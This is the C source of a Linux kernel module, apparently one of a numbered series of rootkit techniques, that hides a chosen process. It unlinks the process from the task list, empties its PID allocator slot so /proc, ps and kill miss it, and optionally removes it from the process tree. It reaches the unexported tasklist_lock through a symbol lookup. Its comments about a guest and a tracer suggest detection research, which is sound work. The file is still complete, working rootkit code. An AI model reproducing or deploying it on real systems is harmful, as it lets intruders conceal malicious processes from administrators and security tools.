// SPDX-License-Identifier: GPL-2.0
/*
 * 25. Hide a running process (pid=N): from the task list, which
 * for_each_process() and the tools built on it read (how=list); from the
 * PID allocator, which /proc, ps and kill(2) read (how=pid: its IDR slot
 * emptied, as idr_replace() does, so find_vpid() fails); or from both
 * (how=both), where the process tree still holds it, as most rootkits
 * leave it; or from all three (how=all: unlinked from its parent's
 * children too), where only the CPU that runs it and the tracer's records
 * still see it.
 * Whether the guest itself still sees the task is in the parameters
 * in_list and in_pid. Put back on unload; the process must outlive it.
 */
#include <linux/module.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/idr.h>
#include <linux/rculist.h>
#include "rk_common.h"

static int pid;
module_param(pid, int, 0444);
static char *how = "both";
module_param(how, charp, 0444);
static bool in_list = true;
module_param(in_list, bool, 0444);
static bool in_pid = true;
module_param(in_pid, bool, 0444);

static struct task_struct *task;
static rwlock_t *tasks_lock; /* tasklist_lock: not exported */
static struct pid *spid;
static bool from_list, from_pid, from_tree;

static bool listed(void)
{
	struct task_struct *p;
	bool found = false;

	rcu_read_lock();
	for_each_process(p)
		if (p == task)
			found = true;
	rcu_read_unlock();
	return found;
}

static int __init rk_init(void)
{
	from_tree = !strcmp(how, "all");
	from_list = !strcmp(how, "list") || !strcmp(how, "both") || from_tree;
	from_pid = !strcmp(how, "pid") || !strcmp(how, "both") || from_tree;
	if (!from_list && !from_pid)
		return -EINVAL;
	tasks_lock = (rwlock_t *)rk_lookup("tasklist_lock");
	if (!tasks_lock)
		return -ENOENT;
	rcu_read_lock();
	task = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (task)
		get_task_struct(task);
	rcu_read_unlock();
	if (!task)
		return -ESRCH;
	spid = get_pid(task_pid(task));
	if (from_pid && idr_replace(&init_pid_ns.idr, NULL, pid_nr(spid)) != spid) {
		put_pid(spid);
		put_task_struct(task);
		return -EBUSY;
	}
	if (from_list) {
		write_lock_irq(tasks_lock);
		list_del_rcu(&task->tasks);
		if (from_tree)
			list_del(&task->sibling);
		write_unlock_irq(tasks_lock);
	}
	synchronize_rcu();
	in_list = listed();
	rcu_read_lock();
	in_pid = find_vpid(pid) != NULL;
	rcu_read_unlock();
	pr_info("rk_hidetask: pid %d (%s) hidden from %s: for_each_process %s it, find_vpid %s it\n",
		pid, task->comm, how, in_list ? "sees" : "misses",
		in_pid ? "finds" : "misses");
	return 0;
}

static void __exit rk_exit(void)
{
	if (from_list) {
		write_lock_irq(tasks_lock);
		list_add_tail_rcu(&task->tasks, &init_task.tasks);
		if (from_tree)
			list_add_tail(&task->sibling, &task->real_parent->children);
		write_unlock_irq(tasks_lock);
	}
	if (from_pid)
		idr_replace(&init_pid_ns.idr, spid, pid_nr(spid));
	put_pid(spid);
	put_task_struct(task);
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
